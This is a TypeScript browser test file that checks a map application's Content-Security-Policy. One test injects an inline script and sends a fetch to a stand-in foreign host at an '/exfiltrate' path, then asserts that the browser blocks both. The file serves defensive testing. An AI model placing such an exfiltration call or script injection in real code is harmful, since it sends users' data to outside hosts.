/**
 * The built app's Content-Security-Policy: the atlas runs clean under it, an injected inline script
 * does not run, and a connection to another origin is refused by the browser before it leaves.
 */
import { describe, expect, inject, it } from 'vitest';
import { assertClean, openPage, sessionForFile, waitForMapIdle } from './browser.ts';

const baseUrl = inject('baseUrl');
const session = sessionForFile();

describe('content security policy', () => {
  it('ships a policy that forbids inline script and foreign connections, and the atlas runs clean under it', async () => {
    const { page, rec } = await openPage(session(), baseUrl, '?region=150200');
    await waitForMapIdle(page);
    const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/connect-src 'self'(;|$)/);
    expect(csp).not.toMatch(/unsafe-eval/);
    await expect.poll(() => page.locator('body').innerText()).toContain('包头市');
    assertClean(rec);
    await page.close();
  });

  it('refuses an injected inline script and a connection to another origin', async () => {
    const { page, rec } = await openPage(session(), baseUrl);
    await waitForMapIdle(page);
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true;';
      document.head.append(s);
      let fetchFailed = false;
      try {
        await fetch('http://203.0.113.7/exfiltrate');
      } catch {
        fetchFailed = true;
      }
      await new Promise((r) => setTimeout(r, 100));
      return { inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true, fetchFailed, violations };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.fetchFailed).toBe(true);
    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'connect-src']));
    // The browser refused before any request left: the router never saw it.
    expect(rec.foreignRequests).toEqual([]);
    await page.close();
  });
});
